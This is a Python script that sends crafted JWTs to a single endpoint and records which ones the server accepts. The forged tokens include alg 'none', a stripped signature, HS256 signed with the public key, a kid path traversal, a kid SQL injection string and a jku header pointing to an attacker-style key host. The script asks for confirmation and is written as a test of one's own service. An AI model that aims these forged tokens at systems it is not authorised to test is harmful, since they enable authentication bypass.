#!/usr/bin/env python3
"""Send crafted JWTs to ONE endpoint the user owns and report acceptance."""
import argparse
import base64
import hashlib
import hmac
import json
import time
import urllib.error
import urllib.request
from urllib.parse import urlparse


def b64u(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def unb64u(s: str) -> bytes:
    return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))


def enc(obj) -> str:
    return b64u(json.dumps(obj, separators=(",", ":")).encode())


def hs256(header, claims, key: bytes) -> str:
    signing = f"{enc(header)}.{enc(claims)}"
    return signing + "." + b64u(hmac.new(key, signing.encode(), hashlib.sha256).digest())


def send(url, token):
    req = urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"} if token else {})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code
    except urllib.error.URLError as e:
        return f"error: {e.reason}"


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--url", required=True)
    ap.add_argument("--token", required=True)
    ap.add_argument("--pubkey")
    ap.add_argument("--out", default="jwt-report.md")
    a = ap.parse_args()

    host = urlparse(a.url).hostname or ""
    print(f"Target: {a.url}  (host {host}) — confirm this is yours before continuing.")
    if input("Proceed? [y/N] ").strip().lower() != "y":
        return

    h_raw, c_raw, sig = a.token.split(".")
    header, claims = json.loads(unb64u(h_raw)), json.loads(unb64u(c_raw))
    cases = [("baseline", a.token), ("no-token", None)]
    cases.append(("alg-none", f"{enc({**header, 'alg': 'none'})}.{c_raw}."))
    cases.append(("alg-None-case", f"{enc({**header, 'alg': 'NoNe'})}.{c_raw}."))
    cases.append(("strip-signature", f"{h_raw}.{c_raw}."))
    if a.pubkey:
        pem = open(a.pubkey, "rb").read()
        cases.append(("hs256-with-pubkey", hs256({**header, "alg": "HS256"}, claims, pem)))
    cases.append(("kid-traversal", hs256({**header, "alg": "HS256", "kid": "../../../../dev/null"}, claims, b"")))
    cases.append(("kid-sqli", hs256({**header, "alg": "HS256", "kid": "x' UNION SELECT 'secret' -- "}, claims, b"secret")))
    cases.append(("jku-injection", f"{enc({**header, 'jku': 'https://jwks.attacker.invalid/keys.json'})}.{c_raw}.{sig}"))
    tampered = {**claims, "sub": str(claims.get("sub", "")) + "0"}
    cases.append(("claim-tamper", f"{h_raw}.{enc(tampered)}.{sig}"))
    cases.append(("expired-unsigned", f"{h_raw}.{enc({**claims, 'exp': int(time.time()) - 3600})}.{sig}"))

    rows = []
    for name, tok in cases:
        status = send(a.url, tok)
        if name == "baseline":
            verdict = "ok" if status == 200 else "baseline failed — check token"
        else:
            verdict = "PASS (rejected)" if status in (401, 403) else ("CHECK (server error)" if status == 500 else "FAIL (accepted)")
        rows.append((name, status, verdict))
        print(f"{name:20} {status}  {verdict}")
        time.sleep(0.5)

    with open(a.out, "w") as f:
        f.write(f"# JWT verification test — {a.url}\n\n| Case | Status | Verdict |\n|---|---|---|\n")
        for r in rows:
            f.write(f"| {r[0]} | {r[1]} | {r[2]} |\n")
    print(f"report -> {a.out}")


if __name__ == "__main__":
    main()
